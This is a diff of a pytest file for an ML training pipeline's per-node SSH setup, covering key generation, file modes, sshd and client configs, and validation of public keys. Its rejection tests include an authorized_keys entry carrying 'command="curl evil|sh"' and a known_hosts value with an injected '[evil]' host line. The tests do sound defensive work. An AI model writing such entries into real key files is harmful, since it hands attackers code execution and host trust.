@@ -1,11 +1,12 @@
-"""Per-job SSH: real keys from ssh-keygen, file modes, config texts; ssh itself reads the config.
+"""Per-node SSH: real keys from ssh-keygen, file modes, config texts; ssh and sshd read them.
 
-sshd is not started here (the test machine has none, and it would need root); the config it
-would read is compared whole instead.
+sshd is started for real in tests/launch/test_deepspeed_nodes.py and the two-node harness;
+here sshd only checks the config it would read (`sshd -t`).
 """
 
 from __future__ import annotations
 
+import os
 import shutil
 import stat
 import subprocess
@@ -15,18 +16,25 @@ import pytest
 
 from llm_pipeline.launch.ssh import (
     SshFiles,
-    generate_job_keys,
-    job_keys_ready,
-    prepare_node,
+    authorize,
+    make_key,
+    node_files,
+    public_key,
+    remove_client_config,
     ssh_client_config_text,
     sshd_command,
     sshd_config_text,
+    trust_hosts,
+    write_client_config,
+    write_sshd_config,
 )
 
 pytestmark = pytest.mark.skipif(shutil.which("ssh-keygen") is None, reason="needs OpenSSH")
 
 HOSTS = ("primary-0", "workers-0")
 MARK = "# Written by llm-pipeline for one training job; its keys were made when the job ran."
+KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIN/go5Fch9NyHt5ISCy7k1/+pC2ZWrpWRmHsOtqJPnsM"
+SSHD = Path("/usr/sbin/sshd")
 
 
 def mode(path: Path) -> int:
@@ -34,80 +42,68 @@ def mode(path: Path) -> int:
 
 
 @pytest.fixture
-def shared(tmp_path: Path) -> Path:
-    folder = tmp_path / "job-storage" / "ssh"
-    generate_job_keys(folder, comment="job-123")
-    return folder
+def files(tmp_path: Path) -> SshFiles:
+    return node_files(tmp_path / "home" / ".llm-pipeline-ssh" / "node0")
 
 
-def test_job_keys_are_made_once_with_private_modes(shared: Path):
-    assert job_keys_ready(shared)
-    assert {p.name: mode(p) for p in shared.iterdir()} == {
+def test_keys_are_made_once_on_the_node_privately(files: SshFiles):
+    user = make_key(files.identity_file, comment="job-123")
+    host = make_key(files.host_key)
+    assert mode(files.folder) == 0o700
+    assert {p.name: mode(p) for p in files.folder.iterdir()} == {
         "id_ed25519": 0o600,
         "id_ed25519.pub": 0o644,
         "ssh_host_ed25519_key": 0o600,
         "ssh_host_ed25519_key.pub": 0o644,
     }
-    user_pub = (shared / "id_ed25519.pub").read_text().split()
-    host_pub = (shared / "ssh_host_ed25519_key.pub").read_text().split()
-    assert (user_pub[0], user_pub[2], host_pub[0]) == ("ssh-ed25519", "job-123", "ssh-ed25519")
-    assert user_pub[1] != host_pub[1]
-    with pytest.raises(FileExistsError, match="each job makes its own keys"):
-        generate_job_keys(shared)
-
-
-def test_keys_not_ready_before_the_primary_made_them(tmp_path: Path):
-    assert not job_keys_ready(tmp_path)
-    with pytest.raises(FileNotFoundError, match="the job's ssh keys are not there"):
-        prepare_node(tmp_path, tmp_path / "local", hosts=HOSTS)
-
-
-def test_prepare_node_installs_keys_privately(shared: Path, tmp_path: Path):
-    local = tmp_path / "home" / ".llm-pipeline-ssh"
-    files = prepare_node(shared, local, hosts=HOSTS, port=2022, user="root")
-    assert files == SshFiles(
-        folder=local,
-        identity_file=local / "id_ed25519",
-        authorized_keys=local / "authorized_keys",
-        host_key=local / "ssh_host_ed25519_key",
-        known_hosts=local / "known_hosts",
-        sshd_config=local / "sshd_config",
-        client_config=local / "ssh_config",
-    )
-    assert mode(local) == 0o700
-    assert {p.name: mode(p) for p in local.iterdir()} == {
-        "id_ed25519": 0o600,
-        "authorized_keys": 0o600,
-        "ssh_host_ed25519_key": 0o600,
-        "known_hosts": 0o644,
-        "sshd_config": 0o644,
-        "ssh_config": 0o600,
-    }
-    user_pub = (shared / "id_ed25519.pub").read_text().strip()
-    host_pub = (shared / "ssh_host_ed25519_key.pub").read_text().strip()
-    assert files.authorized_keys.read_text() == f"{user_pub}\n"
-    assert files.known_hosts.read_text() == f"[primary-0]:2022,[workers-0]:2022 {host_pub}\n"
-    # The installed private key is the one authorized everywhere.
+    # The public key's line, without its comment; the private key is the one it belongs to.
+    assert user != host and user.startswith("ssh-ed25519 ") and len(user.split()) == 2
     derived = subprocess.run(
         ["ssh-keygen", "-y", "-f", str(files.identity_file)],
         check=True,
         capture_output=True,
         text=True,
     ).stdout.split()[:2]
-    assert derived == user_pub.split()[:2]
+    assert " ".join(derived) == user
+    with pytest.raises(FileExistsError, match="each node makes its own keys once"):
+        make_key(files.host_key)
 
 
-def test_prepare_node_again_restores_modes(shared: Path, tmp_path: Path):
-    local = tmp_path / "local"
-    files = prepare_node(shared, local, hosts=HOSTS, user="root")
-    files.identity_file.chmod(0o644)
-    prepare_node(shared, local, hosts=HOSTS, user="root")
-    assert mode(files.identity_file) == 0o600
+@pytest.mark.parametrize(
+    "text",
+    [
+        f'command="curl evil|sh" {KEY}',  # an authorized_keys option in front
+        f"{KEY}\n{KEY.replace('AAAAIN', 'AAAAIM')}",  # a second key on a second line
+        "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ",
+        KEY[:-1],
+        None,
+        {"key": KEY},
+    ],
+)
+def test_a_public_key_from_the_shared_folder_is_one_bare_ed25519_key(text: object):
+    assert public_key(f"{KEY} root@vm\n", what="x") == KEY
+    with pytest.raises(ValueError, match=r"^node 1's host key: not one ed25519 public key"):
+        public_key(text, what="node 1's host key")
+
+
+def test_authorize_and_trust_hosts_write_only_checked_keys(files: SshFiles):
+    authorize(files, f"{KEY} the-primary")
+    assert files.authorized_keys.read_text() == f"{KEY}\n"
+    assert mode(files.authorized_keys) == 0o600
+    trust_hosts(files, {"primary-0": KEY, "workers-0": KEY}, port=2022)
+    assert files.known_hosts.read_text() == (f"[primary-0]:2022 {KEY}\n[workers-0]:2022 {KEY}\n")
+    with pytest.raises(ValueError, match=r"^host key of workers-0: not one ed25519"):
+        trust_hosts(files, {"workers-0": f"{KEY}\n[evil]:22 {KEY}"}, port=2022)
+    files.authorized_keys.chmod(0o644)
+    authorize(files, KEY)
+    assert mode(files.authorized_keys) == 0o600
 
 
 def test_sshd_config_text(tmp_path: Path):
     files = _files(tmp_path)
-    assert sshd_config_text(files, port=2022, user="root") == (
+    assert sshd_config_text(
+        files, port=2022, user="root", session_env={"LLM_PIPELINE_NODE_DIR": "/root/x"}
+    ) == (
         f"{MARK}\n"
         "Port 2022\n"
         f"HostKey {tmp_path}/ssh_host_ed25519_key\n"
@@ -122,8 +118,26 @@ def test_sshd_config_text(tmp_path: Path):
         "UsePAM no\n"
         "X11Forwarding no\n"
         "AllowTcpForwarding no\n"
+        "PermitUserEnvironment no\n"
         "PrintMotd no\n"
+        "SetEnv LLM_PIPELINE_NODE_DIR=/root/x\n"
     )
+    with pytest.raises(ValueError, match="cannot go into sshd's SetEnv unquoted"):
+        sshd_config_text(files, port=2022, user="root", session_env={"A": "b c"})
+    with pytest.raises(ValueError, match="port: must be a TCP port"):
+        sshd_config_text(files, port=0, user="root", session_env={})
+
+
+@pytest.mark.skipif(not SSHD.is_file() or os.getuid() != 0, reason="needs sshd, as root")
+def test_sshd_accepts_the_config_it_is_given(files: SshFiles):
+    make_key(files.host_key)
+    authorize(files, KEY)
+    write_sshd_config(files, port=2022, user="root", session_env={"LLM_PIPELINE_NODE_DIR": "/x"})
+    assert mode(files.sshd_config) == 0o600
+    check = subprocess.run(
+        [str(SSHD), "-t", "-f", str(files.sshd_config)], capture_output=True, text=True
+    )
+    assert check.returncode == 0, check.stderr
 
 
 def test_client_config_text(tmp_path: Path):
@@ -141,8 +155,9 @@ def test_client_config_text(tmp_path: Path):
     )
 
 
-def test_ssh_reads_the_client_config_for_job_hosts_only(shared: Path, tmp_path: Path):
-    files = prepare_node(shared, tmp_path / "local", hosts=HOSTS, port=2022, user="root")
+def test_ssh_reads_the_client_config_for_job_hosts_only(files: SshFiles):
+    write_client_config(files, hosts=HOSTS, port=2022, user="root")
+    assert mode(files.client_config) == 0o600
 
     def effective(host: str) -> dict[str, str]:
         out = subprocess.run(
@@ -165,29 +180,23 @@ def test_ssh_reads_the_client_config_for_job_hosts_only(shared: Path, tmp_path: 
     assert effective("elsewhere.example.com")["port"] == "22"
 
 
-def test_a_foreign_client_config_is_not_replaced(shared: Path, tmp_path: Path):
+def test_a_foreign_client_config_is_neither_replaced_nor_removed(tmp_path: Path):
     theirs = tmp_path / "dot-ssh" / "config"
     theirs.parent.mkdir()
     theirs.write_text("Host github.com\n    User git\n")
+    files = node_files(tmp_path / "local", client_config=theirs)
     with pytest.raises(FileExistsError, match="was not written by llm-pipeline"):
-        prepare_node(shared, tmp_path / "local", hosts=HOSTS, client_config=theirs)
+        write_client_config(files, hosts=HOSTS)
+    remove_client_config(files)
     assert theirs.read_text() == "Host github.com\n    User git\n"
-    ours = tmp_path / "dot-ssh" / "ours"
-    prepare_node(shared, tmp_path / "local", hosts=HOSTS, client_config=ours, user="root")
-    prepare_node(shared, tmp_path / "local", hosts=HOSTS, client_config=ours, user="root")
-    assert ours.read_text().startswith(MARK)
-
-
-@pytest.mark.parametrize(
-    ("kwargs", "error", "message"),
-    [
-        ({"hosts": ()}, ValueError, "hosts: need every node's hostname"),
-        ({"hosts": HOSTS, "port": 0}, ValueError, "port: must be a TCP port"),
-    ],
-)
-def test_prepare_node_refuses(shared: Path, tmp_path: Path, kwargs, error, message):
-    with pytest.raises(error, match=message):
-        prepare_node(shared, tmp_path / "local", **kwargs)
+    ours = node_files(tmp_path / "local", client_config=tmp_path / "dot-ssh" / "ours")
+    write_client_config(ours, hosts=HOSTS, user="root")
+    write_client_config(ours, hosts=HOSTS, user="root")
+    assert ours.client_config.read_text().startswith(MARK)
+    remove_client_config(ours)
+    assert not ours.client_config.exists()
+    with pytest.raises(ValueError, match="hosts: need every node's hostname"):
+        write_client_config(ours, hosts=())
 
 
 def test_sshd_command(tmp_path: Path):
